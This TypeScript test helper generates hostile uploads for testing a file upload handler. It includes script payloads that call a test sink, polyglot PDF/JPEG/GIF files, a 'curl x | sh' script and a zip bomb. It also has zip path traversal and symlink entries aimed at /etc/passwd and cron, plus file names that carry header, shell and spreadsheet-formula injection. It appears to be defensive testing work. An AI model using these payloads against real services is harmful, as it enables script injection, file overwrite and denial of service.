import { deflateRawSync } from 'node:zlib';
import {
  buildDoc,
  buildDocx,
  buildJpeg,
  buildPdf,
  buildPng,
  buildRar,
  buildZip,
} from '#tools/test/files/sample-files.ts';
import type { SeededRandom } from '#trust/lib/random.ts';

export type HostileFile = { what: string; name: string; content: Buffer };

const extensions = ['pdf', 'doc', 'docx', 'jpg', 'jpeg', 'png', 'zip', 'rar'];

const buildScript = (sink: string) =>
  `<script>new Image().src='${sink}/ran';alert(1);globalThis.ran?.()</script>`;

const insertText = (at: number, into: Buffer, what: string) =>
  Buffer.concat([into.subarray(0, at), Buffer.from(what), into.subarray(at)]);

/** Builds a zip archive and modifies its bytes, for example to declare a symbolic link or a false size. */
function buildModifiedZip(
  entries: Record<string, string>,
  change: (bytes: Buffer) => void = () => {},
): Buffer {
  const bytes = buildZip(entries);
  change(bytes);
  return bytes;
}

const findDirectory = (bytes: Buffer) => bytes.indexOf('PK\x01\x02');

function buildContents(sink: string): Record<string, Buffer> {
  const script = buildScript(sink);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${sink}/ran')">${script}</svg>`;
  const actions = `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1);app.launchURL("${sink}/ran")) >> >>`;
  return {
    html: Buffer.from(`<!doctype html><html><body>${script}</body></html>`),
    'html after a byte order mark': Buffer.from(`\ufeff<html>${script}`),
    'html after spaces': Buffer.from(`${' '.repeat(600)}<html>${script}`),
    svg: Buffer.from(svg),
    xml: Buffer.from(
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
    ),
    mhtml: Buffer.from(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${script}`),
    javascript: Buffer.from(`fetch('${sink}/ran')`),
    css: Buffer.from(`*{background:url(${sink}/ran)}`),
    'a program': Buffer.from('MZ\x90\x00\x03This program cannot be run in DOS mode.', 'latin1'),
    'a shell script': Buffer.from('#!/bin/sh\ncurl x | sh\n'),
    'a PDF': buildPdf(),
    'a PDF with a script of its own': Buffer.from(
      buildPdf().toString('latin1').replace('<< /Type /Catalog /Pages 2 0 R >>', actions),
      'latin1',
    ),
    'a PDF that is HTML too': insertText(9, buildPdf(), `\n<html>${script}</html>\n`),
    'a PDF that is JavaScript too': insertText(9, buildPdf(), `\n*/=1;fetch('${sink}/ran')/*\n`),
    'HTML with a PDF behind it': Buffer.concat([Buffer.from(`<html>${script}\n`), buildPdf()]),
    'a JPEG that is HTML too': insertText(20, buildJpeg(), `<html>${script}</html>`),
    'a PNG with a script behind it': Buffer.concat([buildPng(), Buffer.from(script)]),
    'a PNG': buildPng(),
    'a GIF that is JavaScript': Buffer.from(`GIF89a/*\x00*/=1;fetch('${sink}/ran')`, 'latin1'),
    'a zip': buildZip(),
    'a zip bomb': buildZipBomb(40 * 1024 * 1024),
    'zips in zips': buildNestedZips(12),
    'a zip that slips out of its folder': buildModifiedZip({
      '../../../../etc/cron.d/x': 'x',
      '/etc/passwd': 'x',
      'C:\\x': 'x',
    }),
    'a zip with a link': buildModifiedZip({ link: '/etc/passwd' }, (bytes) => {
      const at = findDirectory(bytes);
      bytes.writeUInt8(3, at + 5);
      bytes.writeUInt32LE((0o120777 << 16) >>> 0, at + 38);
    }),
    'a zip that lies about its sizes': buildModifiedZip({ a: 'x' }, (bytes) =>
      bytes.writeUInt32LE(0xfffffffe, 22),
    ),
    'a zip with a page in it': buildZip({ 'index.html': script, '[Content_Types].xml': '<x/>' }),
    'a zip that is HTML too': Buffer.concat([buildZip(), Buffer.from(`<html>${script}`)]),
    'HTML with a zip behind it': Buffer.concat([Buffer.from(`<html>${script}`), buildZip()]),
    'a Word file': buildDocx(),
    'an old Word file': buildDoc(),
    'a rar': buildRar(),
    'half a PDF': buildPdf().subarray(0, 200),
    'half a PNG': buildPng().subarray(0, 20),
    'half a zip': buildZip().subarray(0, 30),
    'half a Word file': buildDocx().subarray(0, 60),
    'half a rar': buildRar().subarray(0, 9),
    'only a signature': Buffer.from('%PDF-'),
    nothing: Buffer.alloc(0),
  };
}

function buildZipBomb(size: number): Buffer {
  const compressed = deflateRawSync(Buffer.alloc(size));
  const bytes = buildZip({ zeros: compressed });
  for (const at of [0, findDirectory(bytes) + 2]) {
    bytes.writeUInt16LE(8, at + 8);
    bytes.writeUInt32LE(size, at + 22);
  }
  return bytes;
}

function buildNestedZips(depth: number): Buffer {
  let inner = buildZip();
  for (let level = 0; level < depth; level += 1) inner = buildZip({ 'inner.zip': inner });
  return inner;
}

/** File names that may confuse a shell, browser, file system or header. `*` stands for the extension. */
const names: readonly string[] = [
  'thesis.*',
  '../../../../etc/passwd.*',
  '..\\..\\windows\\system32\\x.*',
  '/etc/cron.d/x.*',
  'page.html.*',
  'page.html%00.*',
  'page.html;.*',
  '\u202egpj.*',
  'a\u200b\ufeffb.*',
  'a"; filename="page.html.*',
  "a'b`c$(d).*",
  'a\tb\u0001c.*',
  `${'x'.repeat(300)}.*`,
  'a%0d%0aContent-Type:%20text/html%0d%0a%0d%0a.*',
  `${'ﷺ'.repeat(80)}.*`,
  'CON.*',
  'NUL.*',
  'aux.*.*',
  '.*',
  '...*',
  'x.*.',
  'x.* ',
  'x.*::$DATA',
  'x.*\u202e',
  '\ud800.*',
  '-rf.*',
  '<img src=x onerror=ran()>.*',
  '=cmd|x!A1.*',
  'x.html',
  'X.*',
];

/** Yields `count` hostile files. Cycles through all contents and names, and chooses random extensions. */
export function* generateHostileFiles(
  count: number,
  sink: string,
  random: SeededRandom,
): Generator<HostileFile> {
  const all = Object.entries(buildContents(sink));
  for (let index = 0; index < count; index += 1) {
    const [what, content] = all[index % all.length] as [string, Buffer];
    const name = names[(index + Math.floor(index / all.length)) % names.length] ?? '';
    const matchingExtensions = extensions.filter((extension) => matchesExtension(what, extension));
    const list =
      matchingExtensions.length > 0 && random.next() < 0.6 ? matchingExtensions : extensions;
    const extension = list[random.whole(0, list.length - 1)] as string;
    const isUpper = name === 'X.*';
    const cased = isUpper ? extension.toUpperCase() : extension;
    yield { what, name: name.replaceAll('*', () => cased), content };
  }
}

const matchesExtension = (what: string, extension: string) =>
  (/PDF/.test(what) && extension === 'pdf') ||
  (/PNG/.test(what) && extension === 'png') ||
  (/JPEG/.test(what) && extension.startsWith('jp')) ||
  (/zip/.test(what) && extension === 'zip') ||
  (/old Word/.test(what) && extension === 'doc') ||
  (/Word/.test(what) && extension === 'docx') ||
  (/rar/.test(what) && extension === 'rar');
